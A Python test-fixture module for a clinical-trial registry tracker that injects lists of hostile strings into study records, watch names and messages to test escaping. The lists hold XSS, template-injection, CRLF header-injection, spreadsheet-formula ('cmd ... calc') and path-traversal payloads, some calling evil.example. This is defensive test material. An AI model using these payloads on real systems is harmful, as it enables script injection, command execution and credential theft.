"""Texts that want to be more than text, and records that hold them wherever a registry lets a sponsor write."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

from doubles.study_records import study_record
from doubles.web_history import DAYS, NOW, TRIAL, History, versions

from notifiers.message import Level, Message
from notifiers.outbox import Outbox

PRODUCT = 1_099_999_197  # of a template that is run; longer than what stands in a hash by chance
HOSTILE = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "</title><script>alert(1)</script>",
    "javascript:alert(document.domain)",
    " JaVaScRiPt:alert(1)",
    'https://evil.example/" onmouseover="alert(1)',
    "https://good.example@evil.example/",
    "data:text/html,<script>alert(1)</script>",
    "{{ 1234567*891 }}{% raw %}{{ self }}",
    "'\"><svg/onload=alert(1)>",
    "* <b>item</b>\n  1. <i>x</i>\n\n\\<script\\>alert(1)\\</script\\>",
    "safe\u202egnp.exe\u202c \u2066x\u2069",
    "nul\x00 bell\x07 esc\x1b[31m del\x7f",
    "`<code>` </textarea> <!-- --> ]]> &lt;&amp;&#60;script&#62;",
    "<a href=https://evil.example>click</a> [x](javascript:alert(1))",
    "x" * 5_000,
    "",
    "😀 مرحبا ‏ ﷽",
)
MORE = (
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script href=data:,alert(1) /><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi><mtext><style><img src onerror=alert(1)></style>",
    "<style>*{background:url(https://evil.example/a)}</style>",
    "x;}@import'//evil.example/a.css';*{color:red",
    "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=token><button formaction=javascript:alert(1)>Log in",
    "</option></select></script></style></svg></table></main></body></html><plaintext>",
    "a\r\nSet-Cookie: owned=1\r\n\r\n<script>alert(1)</script>",
    "//evil.example/ \\\\evil.example /\\evil.example http:\\\\evil.example",
    "${1234567*891} #{1234567*891} <%= 1234567*891 %> [[${1234567*891}]] %s %(x)s {0.__class__}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example","x")',
    "-2+3",
    "\t=1+1",
    "＝1+1",
    '"a" OR title:* NEAR(b c) ^d* -"e',
    "\\ud800 \\u0000 %00 &#x0; &#xD800; \ufffe\uffff",
    "\u200f\u061cabc\u200e \u2028 \u2029 \ufeff z\u0300\u0301\u0302\u0303",
    "../../../etc/passwd?x#y&z;%2e%2e%2f",
    "' autofocus onfocus=alert(1) x='",
    "`" * 3 + "<b>`",
)


def poisoned(
    value: Any, texts: list[str], at: list[int], key: str = "", *, every: int = 1, within: bool = False
) -> Any:
    """The same value with hostile text in each string, or in one of `every`, but for the id, by which the trial is
    found. within: beside what stood there."""
    if isinstance(value, dict):
        return {
            name: poisoned(member, texts, at, name, every=every, within=within)
            for name, member in value.items()
        }
    if isinstance(value, list):
        return [poisoned(member, texts, at, every=every, within=within) for member in value]
    if not isinstance(value, str) or key in ("nctId", "versionHolder"):
        return value
    at[0] += 1
    if at[0] % every:
        return value
    text = texts[at[0] // every % len(texts)]
    return f"{value} {text} {value}" if within else text


def watch_name(texts: list[str]) -> str:
    """As hostile as the name of a watch may be: `config.checking` refuses what cannot be printed."""
    return "".join(one for one in texts[0] if one.isprintable()).strip()[:200] or "none"


def hostile_history(path: Path, texts: list[str], *, every: int = 1, within: bool = False) -> History:
    """A trial of five versions and one of the registry's own, one with results beside it, watches, deliveries."""
    history = History(path)
    for number, (record, day) in enumerate(zip(versions(), DAYS, strict=True)):
        record["protocolSection"]["newModule"] = {text[:40] or "empty": "x" for text in texts}
        mean = poisoned(record, texts, [number], every=every, within=within)
        history.snapshot(mean, day, watches=(watch_name(texts),))
        if not number:
            history.archive(mean, 1, "2025-03-10")
    history.watch(watch_name(texts), [TRIAL], query={"cond": texts[-1] or "none"})
    history.beside(
        poisoned(
            copy.deepcopy(study_record(1, has_results=True, sites=3)), texts, [9], every=every, within=within
        )
    )
    history.watched().indexed()
    deliver(history, texts)
    return history


def deliver(history: History, texts: list[str]) -> None:
    """Messages that were given up for reasons that a receiver wrote."""
    with history.writing() as (db, _):
        room = Outbox(db)
        for number, text in enumerate(texts[:3]):
            room.put(Message(id=f"m{number}", level=Level.MAJOR, headline=text or "none"), "hook", now=NOW)
            room.claim("hook", NOW)
            room.bury(f"m{number}", text or "none", NOW)
